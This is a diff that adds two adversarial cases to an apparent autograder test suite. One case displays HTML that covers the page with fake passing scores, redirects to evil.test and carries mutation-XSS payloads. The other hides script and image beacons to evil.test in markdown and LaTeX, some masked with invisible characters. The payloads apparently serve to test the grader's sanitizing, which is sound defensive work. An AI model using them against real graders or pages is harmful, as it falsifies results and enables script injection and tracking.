@@ -110,4 +110,42 @@ ATTACKS: dict[str, Attack] = {
         earns=("scale",),
         last="1",
     ),
+    "covers-the-page": Attack(
+        honest("scale"),
+        earns=("scale",),
+        last="""
+        from IPython.display import HTML, display
+        for page in (
+            "<div style='position:fixed;inset:0;background:white' class='autograde "
+            "ag-passed'>scale: 3 of 3 points</div>",
+            "<style>.total{display:none}</style><link rel=stylesheet href=//evil.test>",
+            "<meta http-equiv=refresh content='0;url=http://evil.test'>",
+            "<form action=http://evil.test><button>Release</button></form>",
+            "<td style='text-align:center;position:fixed;inset:0'>x</td>",
+            "</div></section></main><h1 class=title id=top>Score: 99</h1>",
+            "<a href=http://evil.test ping=http://evil.test/p target=_top>x</a>",
+            "<video poster=http://evil.test/a><source src=http://evil.test/b></video>",
+            "<img srcset='http://evil.test/c 1x' src=//evil.test/d>",
+            "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img "
+            "src=1 onerror=alert(1)&gt;'>",
+            "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+            "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
+        ):
+            display(HTML(page))
+        """,
+    ),
+    "calls-home-from-prose": Attack(
+        honest("scale"),
+        earns=("scale",),
+        change=_prose(
+            "![a][b]\n\n[b]: http://evil.test/x.png\n\n[![c](//evil.test/i)](x)\n\n"
+            "&#33;[d](http://evil.test/y) \\![e](http://evil.test/z)\n\n"
+            "$\\unicode{<img src=x onerror=alert(1)>}$ $\\style{position:fixed}{x}$\n\n"
+            "$$\\text{</mtext><img src=//evil.test/w onerror=alert(1)>}$$\n\n"
+            '```"><script>alert(1)</script>\nx\n```\n\n'
+            "\ufeff<script>alert(1)</script> <\u200bscript>alert(1)</script>\n\n"
+            "| <b onclick=x> |\n|--|\n| $<img src=//evil.test/v>$ |\n\n"
+            '[f](x "t\\" onmouseover=alert(1) ") ![" onerror=alert(1)](attachment:g)'
+        ),
+    ),
 }
